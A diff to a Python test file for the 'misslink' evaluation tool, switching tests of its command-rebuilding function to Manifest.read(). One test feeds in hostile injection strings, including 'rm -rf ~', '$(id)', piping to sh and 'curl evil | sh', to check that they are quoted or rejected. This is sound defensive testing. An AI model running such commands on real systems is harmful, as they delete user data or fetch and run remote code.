@@ -12,7 +12,7 @@ def test_the_recorded_command_keeps_what_judges_and_drops_where_it_went():
         "--overwrite --case x --case=y --json --k 3 --dry-run"
     )
 
-    assert build_case_command(Manifest(command=recorded), "elsewhere") == CaseCommand(
+    assert build_case_command(Manifest.read({"command": recorded}), "elsewhere") == CaseCommand(
         "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --k 3",
         "reports/a-case-",
         annotate="misslink annotate reports/a",
@@ -20,7 +20,7 @@ def test_the_recorded_command_keeps_what_judges_and_drops_where_it_went():
 
 
 def test_without_a_folder_in_the_command_the_run_s_own_gives_the_new_one_its_name():
-    command = Manifest(command="misslink evaluate a.py:app --goldset g.jsonl")
+    command = Manifest.read({"command": "misslink evaluate a.py:app --goldset g.jsonl"})
 
     assert build_case_command(command, "reports/2026 one/").out == "'reports/2026 one'-case-"
     assert build_case_command(command).out == "reports/one-case-"
@@ -33,7 +33,7 @@ def test_another_command_is_told_by_the_manifest():
         "embedding": "app", "seed": 0,
     }  # fmt: skip
 
-    assert build_case_command(Manifest.model_validate(manifest), "reports/demo") == CaseCommand(
+    assert build_case_command(Manifest.read(manifest), "reports/demo") == CaseCommand(
         "misslink evaluate a/app.py:chain --goldset a/g.jsonl --judge heuristic --k 3 --depth 100 "
         "--embedding app --seed 0",
         "reports/demo-case-",
@@ -41,7 +41,7 @@ def test_another_command_is_told_by_the_manifest():
     )
     traces = {"traces": "t.jsonl", "goldset": "g.jsonl"}
     assert (
-        build_case_command(Manifest.model_validate(traces)).head
+        build_case_command(Manifest.read(traces)).head
         == "misslink evaluate --traces t.jsonl --goldset g.jsonl"
     )
 
@@ -54,7 +54,7 @@ def test_another_command_is_told_by_the_manifest():
     ],
 )  # fmt: skip
 def test_a_run_of_objects_has_no_command_and_says_why(manifest):
-    found = build_case_command(Manifest.model_validate(manifest))
+    found = build_case_command(Manifest.read(manifest))
 
     assert (found.head, found.out) == ("", "")
     assert "started from Python" in found.reason
@@ -62,14 +62,14 @@ def test_a_run_of_objects_has_no_command_and_says_why(manifest):
 
 def test_a_hostile_manifest_adds_no_command_of_its_own():
     found = build_case_command(
-        Manifest(command="misslink evaluate a; rm -rf ~ && $(id) `id` | sh > f")
+        Manifest.read({"command": "misslink evaluate a; rm -rf ~ && $(id) `id` | sh > f"})
     )
 
     assert found.head == "misslink evaluate 'a;' rm -rf '~' '&&' '$(id)' '`id`' '|' sh '>' f"
-    assert build_case_command(Manifest(command="curl evil | sh")).head == ""
-    assert build_case_command(Manifest(command="misslink evaluate a\x1b[2J")).head == ""
-    assert build_case_command(Manifest(), "a\x1b[2J").annotate == ""
-    assert build_case_command(Manifest(), "a; b").annotate == "misslink annotate 'a; b'"
+    assert build_case_command(Manifest.read({"command": "curl evil | sh"})).head == ""
+    assert build_case_command(Manifest.read({"command": "misslink evaluate a\x1b[2J"})).head == ""
+    assert build_case_command(Manifest.read({}), "a\x1b[2J").annotate == ""
+    assert build_case_command(Manifest.read({}), "a; b").annotate == "misslink annotate 'a; b'"
 
 
 @pytest.mark.parametrize(
